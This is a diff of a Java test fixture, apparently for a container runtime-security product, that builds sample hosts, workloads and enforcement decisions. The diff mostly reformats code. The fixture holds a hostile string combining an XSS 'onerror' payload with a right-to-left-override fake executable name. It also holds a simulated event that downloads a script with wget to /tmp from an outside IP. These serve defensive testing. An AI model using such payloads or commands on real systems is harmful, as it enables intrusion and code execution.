@@ -56,12 +56,13 @@ final class Scene {
   static final String HOSTILE =
       "<img src=x onerror=alert(1)>\u202Egnp.exe\u0007\n\"'`&{reader.name}";
 
-  static final Host WEB =
-      host("3f0c7d1e-web", "edge-tyo-1", "Debian GNU/Linux 12 (bookworm)");
+  static final Host WEB = host("3f0c7d1e-web", "edge-tyo-1", "Debian GNU/Linux 12 (bookworm)");
   static final Host BATCH = host("91ab-batch", "build-osa-1", "Ubuntu 20.04.6 LTS");
 
-  static final Workload SHOP = workload(WEB, "shop-frontend", "registry.example/shop/frontend:3.2.1");
-  static final Workload SEARCH = workload(WEB, "catalog-search", "registry.example/shop/search:1.9");
+  static final Workload SHOP =
+      workload(WEB, "shop-frontend", "registry.example/shop/frontend:3.2.1");
+  static final Workload SEARCH =
+      workload(WEB, "catalog-search", "registry.example/shop/search:1.9");
   static final Workload LEGACY = workload(BATCH, "legacy-batch", "legacy/batch:2017");
   static final Workload PREVIEW = workload(BATCH, "cms-preview", "cms:latest");
   static final Workload ATTACKER = workload(BATCH, HOSTILE, HOSTILE);
@@ -139,8 +140,7 @@ final class Scene {
 
   static List<StoredDecision> decisions() {
     List<StoredDecision> all = new ArrayList<>();
-    all.add(
-        stored(9, SHOP, wget(NOW.minusSeconds(4)), enforced("shop-frontend"), Action.DENIED));
+    all.add(stored(9, SHOP, wget(NOW.minusSeconds(4)), enforced("shop-frontend"), Action.DENIED));
     for (int i = 0; i < 3; i++) {
       all.add(
           stored(
@@ -150,8 +150,7 @@ final class Scene {
               drift(Mode.ENFORCE),
               Action.KILLED));
     }
-    all.add(
-        stored(5, SEARCH, wget(NOW.minusSeconds(2040)), audited("baseline"), Action.REPORTED));
+    all.add(stored(5, SEARCH, wget(NOW.minusSeconds(2040)), audited("baseline"), Action.REPORTED));
     all.add(
         stored(
             4,
@@ -254,8 +253,7 @@ final class Scene {
   }
 
   private static Host host(String id, String name, String system) {
-    return new Host(
-        id, name, name, "shop", Map.of("site", "tokyo"), List.of("192.0.2.7"), system);
+    return new Host(id, name, name, "shop", Map.of("site", "tokyo"), List.of("192.0.2.7"), system);
   }
 
   private static Workload workload(Host host, String name, String image) {
@@ -373,8 +371,7 @@ final class Scene {
     return new Event.ProcessStarted(
         at,
         actor("sh"),
-        new Executable(
-            "/bin/busybox", Set.of("/usr/bin/wget", "wget"), true, Origin.IMAGE, 1, 2),
+        new Executable("/bin/busybox", Set.of("/usr/bin/wget", "wget"), true, Origin.IMAGE, 1, 2),
         List.of("wget", "http://203.0.113.9/x.sh", "-O", "/tmp/x"),
         false,
         Optional.empty());
